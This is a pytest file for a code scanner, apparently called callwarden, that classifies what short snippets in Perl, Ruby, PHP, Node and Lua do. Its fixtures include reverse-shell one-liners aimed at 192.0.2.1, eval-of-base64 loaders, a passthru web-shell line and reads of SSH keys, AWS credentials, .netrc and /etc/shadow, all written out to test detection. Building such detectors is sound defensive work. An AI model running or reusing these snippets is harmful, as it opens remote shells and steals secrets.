"""Languages that are only scanned: literals, hosts, and one-liners that reach out."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from callwarden.facts import code
from callwarden.facts.builder import Builder
from callwarden.facts.context import Context
from callwarden.facts.model import Facts


def heard(context: Context, language: str, source: str) -> tuple[Facts, list[str]]:
    texts: list[str] = []
    builder = Builder(context, "/workspace", shell=lambda _, text, __: texts.append(text), code=code.read)
    builder.code(language, source)
    return builder.build(), texts


@pytest.mark.parametrize(
    ("language", "source", "text"),
    [
        ("perl", "system('ls -l')", "ls -l"),
        ("perl", 'exec "ls -l";', "ls -l"),
        ("perl", "print `ls -l`", "ls -l"),
        ("ruby", "system('ls', '-l')", "ls -l"),
        ("ruby", "puts %x(ls -l)", "ls -l"),
        ("php", "<?php shell_exec('ls -l'); ?>", "ls -l"),
        ("lua", "os.execute('ls -l')", "ls -l"),
        ("node", "require('child_process').execSync('ls -l')", "ls -l"),
        ("js", "const {spawn} = require('child_process'); spawn('ls', ['-l'])", "ls -l"),
    ],
)
def test_a_literal_command_goes_to_the_shell_reader(context: Context, language: str, source: str, text: str) -> None:
    found, texts = heard(context, language, source)
    assert text in texts
    assert "process" in found.code[0].actions


@pytest.mark.parametrize(
    ("language", "source"), [("perl", "system($x)"), ("php", "passthru($_GET['c']);"), ("node", "execSync(cmd)")]
)
def test_a_command_that_is_no_literal_is_opaque(context: Context, language: str, source: str) -> None:
    found, _ = heard(context, language, source)
    assert "program" in {opaque.place for opaque in found.opaque}


@pytest.mark.parametrize(
    ("language", "source"),
    [
        ("perl", 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,x);open(STDIN,">&S");exec("/bin/sh -i");'),
        ("ruby", 'require "socket";s=TCPSocket.new("192.0.2.1",1);exec "sh"'),
        ("php", '$s=fsockopen("192.0.2.1",1);proc_open("/bin/sh", [], $p);'),
        ("node", 'var s=require("net").connect(1,"192.0.2.1");var p=require("child_process").spawn("/bin/sh");'),
        ("lua", 'local s=require("socket").tcp();s:connect("192.0.2.1",1);os.execute("/bin/sh -i")'),
    ],
)
def test_a_shell_on_a_socket_is_a_reverse_shell(context: Context, language: str, source: str) -> None:
    found, _ = heard(context, language, source)
    assert "reverse_shell" in found.code[0].actions


@pytest.mark.parametrize(
    ("language", "source", "action"),
    [
        ("php", "eval(base64_decode($x));", "decode_execute"),
        ("node", "eval(atob(x))", "decode_execute"),
        ("node", "new Function(x)()", "dynamic"),
        ("lua", "load(x)()", "dynamic"),
        ("node", "require('http').createServer(f).listen(80)", "listen"),
        ("node", "fetch('https://a.example')", "network"),
        ("node", "fs.unlinkSync('x')", "delete"),
        ("ruby", "require 'fiddle'", "native"),
    ],
)
def test_what_code_does_is_an_action(context: Context, language: str, source: str, action: str) -> None:
    found, _ = heard(context, language, source)
    assert action in found.code[0].actions
    assert not found.code[0].understood


def test_hosts_and_paths_in_literals_are_facts(context: Context) -> None:
    source = "fetch('https://a.example/x'); fs.readFileSync('/etc/shadow'); fs.writeFileSync('out.txt', d)"
    found, _ = heard(context, "node", source)
    assert [host.name for host in found.hosts] == ["a.example"]
    assert {(path.path, path.access) for path in found.paths} == {
        ("/etc/shadow", "read"),
        ("/workspace/out.txt", "write"),
    }


@pytest.mark.parametrize(
    ("language", "source"),
    [
        ("node", "fs.readFile('.aws/credentials', f)"),
        ("node", "fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'))"),
        ("node", "fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')"),
        ("node", "fs.readFileSync(`${os.homedir()}/.netrc`)"),
        ("perl", 'open(F, "<$ENV{HOME}/.aws/credentials")'),
        ("ruby", 'puts File.read("#{Dir.home}/.netrc")'),
        ("php", "echo file_get_contents('/etc/shadow');"),
    ],
)
def test_a_secret_that_a_literal_names_has_its_class(context: Context, language: str, source: str) -> None:
    found, _ = heard(context, language, source)
    assert "secret" in {name for path in found.paths for name in path.classes}


@pytest.mark.parametrize(
    ("language", "source"),
    [
        ("node", "console.log([1, 2].map(x => `${x} items`).join(', '))"),
        ("node", "const re = /a+/; const m = re.exec(text); if (m) { console.log(m[0]) }"),
        ("perl", "while (<>) { s/a/b/; print }"),
        ("ruby", "puts [1, 2].sum"),
        ("awk", "{ print $1 }"),
    ],
)
def test_ordinary_code_has_nothing_opaque(context: Context, language: str, source: str) -> None:
    found, texts = heard(context, language, source)
    assert found.opaque == []
    assert texts == []


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300), st.sampled_from(["node", "perl", "ruby", "php", "lua", "brainfuck"]))
def test_any_text_is_scanned(context: Context, source: str, language: str) -> None:
    found, _ = heard(context, language, source)
    assert found.code


@pytest.mark.parametrize("piece", ["system(", "'", "socket(", "`", "https://", "%x{", "open(a,'>"])
def test_a_text_made_to_tire_the_scan_does_not(context: Context, piece: str) -> None:
    began = time.perf_counter()
    heard(context, "perl", piece * (60_000 // len(piece)))
    assert time.perf_counter() - began < 5
